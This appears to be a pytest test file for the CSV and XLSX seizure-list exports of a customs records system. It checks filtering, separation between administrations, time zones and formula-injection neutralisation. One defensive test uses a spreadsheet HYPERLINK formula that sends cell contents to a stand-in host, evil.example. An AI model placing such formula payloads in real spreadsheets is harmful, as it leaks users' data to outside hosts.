"""CSV and XLSX exports of the seizure list: the same rows as the page, nothing more."""

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from seizures.exports import neutralise

from ..conftest import signed_in_client
from ..factories import OfficeFactory, code, make_seizure

pytestmark = pytest.mark.django_db


def _csv(client, **params) -> list[list[str]]:
    response = client.get("/seizures/export.csv", params)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def _xlsx(client, **params) -> list[list]:
    response = client.get("/seizures/export.xlsx", params)
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


def _column(rows, name) -> list:
    index = rows[0].index(name)
    return [row[index] for row in rows[1:]]


@pytest.mark.parametrize("read", [_csv, _xlsx])
def test_export_holds_exactly_the_filtered_rows(fj_officer, read):
    via_auckland = make_seizure(by=fj_officer, transit_countries=["NZ"])
    make_seizure(by=fj_officer)
    rows = read(signed_in_client(fj_officer), route_country="NZ")
    assert _column(rows, "Reference") == [via_auckland.reference]


@pytest.mark.parametrize("read", [_csv, _xlsx])
def test_export_without_filters_holds_every_visible_seizure(fj_officer, read):
    references = {make_seizure(by=fj_officer).reference for _ in range(3)}
    rows = read(signed_in_client(fj_officer))
    assert set(_column(rows, "Reference")) == references


@pytest.mark.parametrize("read", [_csv, _xlsx])
def test_export_across_administrations_leaks_nothing(fj_officer, ws_officer, read):
    make_seizure(by=fj_officer, transit_countries=["NZ"])
    rows = read(signed_in_client(ws_officer))
    assert len(rows) == 1  # the header alone
    assert read(signed_in_client(ws_officer), route_country="NZ")[1:] == []


def test_csv_row_has_what_a_statistician_needs(fj_officer):
    seizure = make_seizure(
        by=fj_officer,
        occurred_at=datetime(2026, 1, 10, 22, 30, tzinfo=UTC),
        location_type=code("location_type", "airport"),
        procedure=code("customs_procedure", "import"),
        flight_number="FJ910",
        transit_countries=["NZ", "WS"],
        narrative="Second bag: café crème tin",
        items=[
            {
                "commodity": code("commodity", "cocaine"),
                "quantity": Decimal("2.500"),
                "unit": code("unit", "kg"),
                "estimated_value": Decimal("1000"),
                "currency": "FJD",
            },
            {
                "commodity": code("commodity", "cigarettes"),
                "quantity": Decimal("100"),
                "unit": code("unit", "sticks"),
                "estimated_value": Decimal("50.5"),
                "currency": "FJD",
            },
            {
                "commodity": code("commodity", "cannabis_herbal"),
                "quantity": Decimal("0.25"),
                "unit": code("unit", "kg"),
                "estimated_value": Decimal("20"),
                "currency": "AUD",
            },
        ],
    )
    header, row = _csv(signed_in_client(fj_officer))
    record = dict(zip(header, row, strict=True))
    assert record == {
        "Reference": seizure.reference,
        "Date and time (Pacific/Fiji)": "2026-01-11 10:30",
        "Office": "Suva Port",
        "Location type": "Airport",
        "Customs procedure": "Import",
        "Detection method": "X-ray or scanner",
        "Transport mode": "Air passenger",
        "Concealment method": "In baggage",
        "Flight number": "FJ910",
        "Vessel name": "",
        "Vessel IMO number": "",
        "Container number": "",
        "Vehicle registration": "",
        "Country of origin": "PE",
        "Country of departure": "AU",
        "Transit countries": "NZ; WS",
        "Country of destination": "FJ",
        "Commodity codes": "cocaine; cigarettes; cannabis_herbal",
        "Commodities": "Cocaine; Cigarettes; Cannabis, herbal",
        "Quantities": "2.5 kg; 100 sticks; 0.25 kg",
        "Estimated value": "20.00 AUD; 1050.50 FJD",
        "Narrative": "Second bag: café crème tin",
        "Status": "Draft",
        "Version": "1",
        "Created by": "fj.officer",
    }


def test_xlsx_keeps_dates_as_dates(fj_officer):
    make_seizure(by=fj_officer, occurred_at=datetime(2026, 1, 10, 22, 30, tzinfo=UTC))
    rows = _xlsx(signed_in_client(fj_officer))
    assert _column(rows, "Date and time (Pacific/Fiji)") == [datetime(2026, 1, 11, 10, 30)]
    assert _column(rows, "Version") == [1]


@pytest.mark.parametrize("read", [_csv, _xlsx])
def test_formula_injection_is_neutralised(fj_officer, read):
    make_seizure(
        by=fj_officer,
        narrative='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        vessel_name="@SUM(1+1)",
        vehicle_registration="+61-400",
    )
    rows = read(signed_in_client(fj_officer))
    assert _column(rows, "Narrative") == ['\'=HYPERLINK("http://evil.example/?"&A1,"Click")']
    assert _column(rows, "Vessel name") == ["'@SUM(1+1)"]
    assert _column(rows, "Vehicle registration") == ["'+61-400"]


def test_xlsx_cells_are_never_formulas(fj_officer):
    make_seizure(by=fj_officer, narrative="=1+1")
    response = signed_in_client(fj_officer).get("/seizures/export.xlsx")
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_export_filename_names_the_administration_and_the_day(fj_officer):
    make_seizure(by=fj_officer)
    client = signed_in_client(fj_officer)
    for file_format in ("csv", "xlsx"):
        disposition = client.get(f"/seizures/export.{file_format}")["Content-Disposition"]
        assert disposition.startswith('attachment; filename="seizures-FJ-20')
        assert disposition.endswith(f'.{file_format}"')


def test_unknown_export_format_is_404(fj_officer):
    assert signed_in_client(fj_officer).get("/seizures/export.pdf").status_code == 404


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_invalid_filter_is_refused_not_exported_unfiltered(fj_officer, file_format):
    seizure = make_seizure(by=fj_officer)
    response = signed_in_client(fj_officer).get(
        f"/seizures/export.{file_format}", {"occurred_from": "yesterday"}
    )
    assert response.status_code == 400
    body = response.content.decode()
    assert "From: Enter a valid date." in body
    assert seizure.reference not in body


def test_unknown_filter_parameter_is_refused(fj_officer):
    make_seizure(by=fj_officer)
    response = signed_in_client(fj_officer).get("/seizures/export.csv", {"comodity": "1"})
    assert response.status_code == 400
    assert "comodity: not a filter of seizures." in response.content.decode()


def test_export_ignores_the_page_parameter(fj_officer):
    seizure = make_seizure(by=fj_officer)
    rows = _csv(signed_in_client(fj_officer), page="3")
    assert _column(rows, "Reference") == [seizure.reference]


def test_export_needs_sign_in(db):
    from django.test import Client

    assert Client().get("/seizures/export.csv").status_code == 302


def test_samoa_export_uses_samoas_time_zone(ws_officer):
    office = OfficeFactory(administration=ws_officer.administration)
    make_seizure(
        by=ws_officer, office=office, occurred_at=datetime(2026, 1, 10, 22, 30, tzinfo=UTC)
    )
    rows = _csv(signed_in_client(ws_officer))
    assert _column(rows, "Date and time (Pacific/Apia)") == ["2026-01-11 11:30"]
